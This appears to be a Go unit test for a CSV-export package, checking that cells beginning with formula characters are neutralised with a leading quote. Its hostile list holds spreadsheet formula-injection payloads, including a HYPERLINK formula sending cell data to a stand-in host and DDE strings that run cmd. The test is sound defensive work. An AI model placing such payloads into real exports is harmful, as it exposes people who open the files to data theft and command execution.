package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"
)

// C2.3: hostile values (a request ID, an address from a forwarding
// header, a statement) written to a CSV export never start a cell with a
// formula character; harmless values are left as they are.
func TestCellsStartingWithFormulaCharactersAreNeutralised_C2_3(t *testing.T) {
	hostile := []string{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "=", "-"}
	harmless := []string{"", "abc", "2026-12-01T00:00:00Z", "127.0.0.1", "不同意修订", "{\"a\":\"=1\"}", " =1", "'=1"}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	require.NoError(t, w.Write(append(append([]string{}, hostile...), harmless...)))
	w.Flush()
	require.NoError(t, w.Error())
	rec, err := csv.NewReader(&buf).Read()
	require.NoError(t, err)
	for i, h := range hostile {
		require.Equal(t, "'"+h, rec[i], "neutralised")
	}
	for i, h := range harmless {
		require.Equal(t, h, rec[len(hostile)+i], "unchanged")
	}
}
